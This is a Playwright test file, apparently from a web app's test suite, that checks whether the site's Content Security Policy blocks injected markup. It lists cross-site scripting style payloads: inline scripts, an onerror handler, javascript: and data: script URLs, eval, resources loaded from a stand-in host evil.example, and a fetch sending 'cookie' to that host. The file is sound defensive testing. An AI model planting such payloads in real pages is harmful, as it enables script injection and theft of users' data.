import type { TestBrowser } from "@jobcentre/test-kit/chromium";
import type { Page } from "playwright-core";
import type { Centre } from "./centre.ts";
import type { Tally } from "./violations.ts";

/** Runs in every page before its own scripts. */
export const LISTEN = `window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective + " " + event.blockedURI + " " + event.sourceFile));`;

/** What the policy stopped in a page so far. */
export const violationsOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => (window as unknown as { violations: string[] }).violations);

/** What somebody who got markup into a page would try: the browser has to stop all of it. */
export async function inject(browser: TestBrowser, centre: Centre, tally: Tally): Promise<void> {
  const context = await browser.newPerson({ baseURL: centre.url });
  await context.addInitScript(LISTEN);
  const page = await context.newPage();
  await page.goto("/");
  await page.locator("h1").first().waitFor();
  const tries: [string, () => void][] = [
    [
      "an inline script",
      () =>
        void document.body.append(Object.assign(document.createElement("script"), { textContent: "window.got = 1" })),
    ],
    [
      "an inline handler",
      () =>
        void document.body.append(
          Object.assign(document.createElement("div"), { innerHTML: '<img src="x" onerror="window.got = 2">' }),
        ),
    ],
    [
      "a script of another site",
      () =>
        void document.body.append(
          Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }),
        ),
    ],
    [
      "a data script",
      () =>
        void document.body.append(
          Object.assign(document.createElement("script"), { src: "data:text/javascript,window.got=3" }),
        ),
    ],
    [
      "a javascript: address",
      () => {
        const link = Object.assign(document.createElement("a"), { href: "javascript:window.got=4" });
        document.body.append(link);
        link.click();
      },
    ],
    [
      "a frame of another site",
      () =>
        void document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
    ],
    [
      "an object",
      () =>
        void document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example/x" })),
    ],
    [
      "a style of another site",
      () =>
        void document.head.append(
          Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" }),
        ),
    ],
    ["a message to another site", () => void fetch("https://evil.example/?cookie").catch(() => undefined)],
    [
      "an image of another site",
      () =>
        void document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/x.png" })),
    ],
  ];
  for (const [name, attempt] of tries) {
    const before = (await violationsOf(page)).length;
    await page.evaluate(attempt);
    const stopped = await page
      .waitForFunction((count) => (window as unknown as { violations: string[] }).violations.length > count, before, {
        timeout: 3_000,
      })
      .then(
        () => true,
        () => false,
      );
    tally.check(!stopped, `${name} is not stopped`);
  }
  // A moment later, since what a driven browser is told to do itself may evaluate.
  await page.evaluate(() => {
    const nonce = document.querySelector<HTMLElement>("script[nonce]")?.nonce ?? "";
    const textContent = "try { eval('window.got = 5') } catch { window.refused = true }";
    setTimeout(() => document.body.append(Object.assign(document.createElement("script"), { nonce, textContent })), 1);
  });
  const refused = await page
    .waitForFunction(() => (window as unknown as { refused?: boolean }).refused, undefined, { timeout: 3_000 })
    .then(
      () => true,
      () => false,
    );
  tally.check(!refused, "eval is not stopped");
  tally.check(
    (await page.evaluate(() => (window as unknown as { got?: number }).got)) !== undefined,
    "a foreign script ran",
  );
  await context.close();
}
